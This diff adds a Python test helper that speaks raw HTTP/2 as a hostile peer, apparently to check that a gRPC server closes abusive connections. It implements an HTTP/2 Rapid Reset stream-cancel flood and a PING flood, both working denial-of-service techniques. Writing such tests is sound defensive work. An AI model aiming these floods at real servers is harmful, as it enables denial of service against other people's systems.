@@ -1,0 +1,167 @@
+"""A hand-written HTTP/2 client for attack tests: the frames a hostile peer sends, nothing more.
+
+Python 3 standard library only. One H2Conn is one TCP connection (optionally TLS) to the master:
+
+    c = h2raw.H2Conn(("127.0.0.1", port))      # preface + empty SETTINGS sent
+    c.rapid_reset(1000, batch=100)             # HEADERS then RST_STREAM(CANCEL), 1000 times
+    c.wait_closed(timeout=10)                  # True once the master closed the connection
+    c.close()
+
+A reader thread answers the master's SETTINGS and PINGs (as a live peer must, so that the master
+cannot tell it from an idle client) and notices when the connection ends. Every blocking socket
+call has a timeout; close() ends the thread.
+
+HPACK: the header block uses only indexed fields from the static table and literal fields
+without indexing and without Huffman coding (RFC 7541 6.1, 6.2.2), so no encoder state is kept.
+"""
+
+import socket
+import ssl
+import struct
+import threading
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+CANCEL = 0x8
+
+# Static table indexes (RFC 7541 appendix A).
+METHOD_POST, SCHEME_HTTP = 3, 6
+NAME_AUTHORITY, NAME_PATH = 1, 4
+
+SOCK_TIMEOUT = 10.0
+
+
+def frame(ftype, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
+        struct.pack(">I", stream & 0x7FFFFFFF) + payload
+
+
+def _hpack_string(s):
+    b = s.encode()
+    if len(b) >= 127:
+        raise ValueError("header value too long for this encoder: %r" % s)
+    return bytes([len(b)]) + b
+
+
+def header_block(path, authority="localhost", extra=()):
+    """A request header block for a gRPC call to path; extra is [(name, value)]."""
+    out = bytes([0x80 | METHOD_POST, 0x80 | SCHEME_HTTP])
+    out += bytes([NAME_PATH]) + _hpack_string(path)
+    out += bytes([NAME_AUTHORITY]) + _hpack_string(authority)
+    for name, value in [("content-type", "application/grpc"), ("te", "trailers")] + list(extra):
+        out += b"\x00" + _hpack_string(name) + _hpack_string(value)
+    return out
+
+
+class H2Conn:
+    """A connection that sent the HTTP/2 preface and an empty SETTINGS frame."""
+
+    def __init__(self, addr, tls_context=None, server_hostname=None):
+        raw = socket.create_connection(addr, timeout=SOCK_TIMEOUT)
+        if tls_context is not None:
+            raw = tls_context.wrap_socket(raw, server_hostname=server_hostname or addr[0])
+        self.sock = raw
+        self.sock.settimeout(SOCK_TIMEOUT)
+        self.next_stream = 1
+        self.lock = threading.Lock()       # writes: the test's thread and the reader's acks
+        self.closed = threading.Event()    # the master ended the connection
+        self.goaway = None                 # the error code of a GOAWAY received
+        self.pings = 0                     # PINGs answered
+        self.frames = 0                    # frames received
+        self.sent_streams = 0
+        self._stop = False
+        self._send(PREFACE + frame(SETTINGS, 0, 0))
+        self.reader = threading.Thread(target=self._read, daemon=True)
+        self.reader.start()
+
+    def _send(self, data):
+        with self.lock:
+            self.sock.sendall(data)
+
+    def _recv_exact(self, n):
+        buf = b""
+        while len(buf) < n:
+            try:
+                chunk = self.sock.recv(n - len(buf))
+            except socket.timeout:
+                if self._stop:
+                    return None
+                continue
+            if not chunk:
+                return None
+            buf += chunk
+        return buf
+
+    def _read(self):
+        try:
+            while not self._stop:
+                head = self._recv_exact(9)
+                if head is None:
+                    break
+                length = struct.unpack(">I", b"\x00" + head[:3])[0]
+                ftype, flags = head[3], head[4]
+                payload = self._recv_exact(length) if length else b""
+                if payload is None:
+                    break
+                self.frames += 1
+                if ftype == SETTINGS and not flags & ACK:
+                    self._send(frame(SETTINGS, ACK, 0))
+                elif ftype == PING and not flags & ACK:
+                    self._send(frame(PING, ACK, 0, payload))
+                    self.pings += 1
+                elif ftype == GOAWAY and len(payload) >= 8:
+                    self.goaway = struct.unpack(">I", payload[4:8])[0]
+        except (OSError, ssl.SSLError):
+            pass
+        self.closed.set()
+
+    def request_frames(self, path, extra=(), reset=True):
+        """The frames of one call opened on the next stream (and cancelled at once with reset)."""
+        sid = self.next_stream
+        self.next_stream += 2
+        out = frame(HEADERS, END_HEADERS, sid, header_block(path, extra=extra))
+        if reset:
+            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
+        return out
+
+    def rapid_reset(self, count, path="/grpc.AdminService/ListNodes", batch=100, extra=()):
+        """Opens and cancels count streams, batch at a time in one write each. Stops early when
+        the master closed the connection; returns the number of streams sent."""
+        sent = 0
+        try:
+            while sent < count and not self.closed.is_set():
+                n = min(batch, count - sent)
+                self._send(b"".join(self.request_frames(path, extra) for _ in range(n)))
+                sent += n
+        except (OSError, ssl.SSLError):
+            pass
+        self.sent_streams += sent
+        return sent
+
+    def ping_flood(self, count):
+        """Sends count PINGs at once (a peer pinging far more often than allowed)."""
+        try:
+            self._send(b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(count)))
+        except (OSError, ssl.SSLError):
+            pass
+
+    def wait_closed(self, timeout):
+        return self.closed.wait(timeout)
+
+    def close(self):
+        self._stop = True
+        try:
+            self.sock.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+        self.reader.join(SOCK_TIMEOUT + 1)
+        self.sock.close()
+
+
+def wait_until_closed(conns, timeout):
+    """Waits until every connection in conns was closed by the master; True if they all were."""
+    deadline = time.monotonic() + timeout
+    return all(c.wait_closed(max(0.0, deadline - time.monotonic())) for c in conns)
